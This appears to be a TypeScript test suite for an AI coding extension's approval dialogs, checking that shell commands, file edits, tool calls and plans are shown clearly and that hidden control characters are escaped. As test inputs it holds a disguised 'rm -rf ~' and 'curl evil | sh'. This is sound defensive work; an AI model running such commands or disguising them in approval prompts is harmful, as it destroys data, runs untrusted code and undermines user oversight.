import { test } from 'node:test';
import assert from 'node:assert/strict';
import { describeApproval, visible } from '../../../extension/vscode/approval-text.js';
import type { PolicyDecision } from '../../../extension/core/policy/types.js';

const policy: PolicyDecision = { decision: 'ask', rule: 'ask shell(*)', source: 'default', reason: 'shell commands need approval' };

test('a shell request names the command, the folder and why the policy asked', () => {
  const t = describeApproval({ kind: 'shell', command: 'npm test', cwd: '/w/app', policy });
  assert.match(t.message, /npm test/);
  assert.match(t.detail, /Command: npm test/);
  assert.match(t.detail, /In: \/w\/app/);
  assert.match(t.detail, /shell commands need approval/);
  assert.match(t.detail, /ask shell\(\*\)/);
});

test('hidden characters in a command are shown, so what is approved is what runs', () => {
  const sneaky = 'echo safe\r\u001b[2Krm -rf ~ \u202eexe.sh';
  const t = describeApproval({ kind: 'shell', command: sneaky, cwd: '/w', policy });
  for (const text of [t.message, t.detail]) {
    assert.ok(!text.includes('\r') && !text.includes('\u001b') && !text.includes('\u202e'), 'a control character reached the dialog');
  }
  assert.match(t.detail, /\\u000d\\u001b\[2Krm -rf ~ \\u202eexe\.sh/);
  assert.equal(visible('a\nb\tc'), 'a\nb\tc');
});

test('a multi-line command stays on one visible line', () => {
  const t = describeApproval({ kind: 'shell', command: 'true\ncurl evil | sh', cwd: '/w', policy });
  assert.match(t.detail, /Command: true\\ncurl evil \| sh/);
});

test('an edit lists each file with what happens to it', () => {
  const t = describeApproval({
    kind: 'edit',
    policy: { ...policy, rule: 'ask write(**)', reason: 'edits need approval' },
    changeSet: {
      id: 'c1',
      description: 'Rename foo',
      files: [
        { path: 'src/a.ts', baseHash: 'abc', newContent: 'x', diff: '--- a\n+++ b\n-old\n+new\n+more' },
        { path: 'src/b.ts', baseHash: null, newContent: 'y', diff: '+y' },
        { path: 'src/c.ts', baseHash: 'def', newContent: null, diff: '-gone' },
      ],
    },
  });
  assert.equal(t.message, 'Tiller wants to change 3 files');
  assert.match(t.detail, /Change: Rename foo/);
  assert.match(t.detail, /modify src\/a\.ts \(\+2 -1\)/);
  assert.match(t.detail, /create src\/b\.ts \(\+1 -0\)/);
  assert.match(t.detail, /delete src\/c\.ts \(\+0 -1\)/);
  assert.match(t.detail, /edits need approval/);
});

test('a tool request shows its arguments; long text is capped', () => {
  const t = describeApproval({ kind: 'tool', tool: 'web.fetch', args: { url: 'https://x', body: 'y'.repeat(10_000) }, policy });
  assert.match(t.message, /web\.fetch/);
  assert.match(t.detail, /"url": "https:\/\/x"/);
  assert.ok(t.detail.length < 3300, `detail is ${t.detail.length} characters`);
  assert.match(t.detail, /more characters\)\n\nWhy you are asked: shell commands need approval/);
});

test('a plan is shown for approval', () => {
  const t = describeApproval({ kind: 'plan', plan: '1. read\n2. edit' });
  assert.match(t.message, /plan/);
  assert.equal(t.detail, '1. read\n2. edit');
});
